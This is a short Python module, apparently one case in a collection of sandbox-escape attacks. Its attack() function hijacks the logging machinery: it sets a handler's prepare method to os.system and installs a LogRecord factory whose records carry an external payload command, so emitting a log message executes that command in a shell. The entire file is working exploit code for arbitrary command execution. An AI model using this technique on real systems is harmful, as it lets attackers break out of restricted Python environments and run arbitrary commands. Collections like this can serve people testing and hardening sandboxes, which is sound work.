"""A C function prepares a record for a queue."""
CATEGORY = "callable"
REACH = "run"

import logging
import os

from . import payload


class Record(str):
    levelno = logging.CRITICAL
    name = "root"
    exc_info = exc_text = stack_info = None

    def getMessage(self):
        return self

    def __new__(cls, *args):
        return str.__new__(cls, payload.COMMAND)

    def __init__(self, *args):
        pass


def attack(handler):
    handler.prepare = os.system
    logging.setLogRecordFactory(Record)
